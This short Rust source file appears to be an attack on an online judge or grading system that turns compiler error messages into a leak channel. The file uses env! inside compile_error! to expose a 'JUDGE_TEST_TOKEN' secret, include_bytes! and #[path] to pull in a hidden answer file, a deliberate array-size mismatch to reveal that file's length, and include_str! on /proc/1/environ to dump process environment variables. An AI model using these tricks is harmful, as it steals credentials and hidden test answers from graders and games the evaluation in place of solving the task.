// read the judge's environment and the answer into messages of the compiler: env!, path, include in a macro
macro_rules! take { ($name:literal) => { compile_error!(concat!("BREACH ", env!($name))); } }
take!("JUDGE_TEST_TOKEN");
#[path = "@SECRET@"]
mod answer;
const TEXT: &[u8] = include_bytes!("@SECRET@");
const _: [(); TEXT.len()] = [(); 0];
fn main() {
    println!("{}", include_str!("/proc/1/environ"));
}
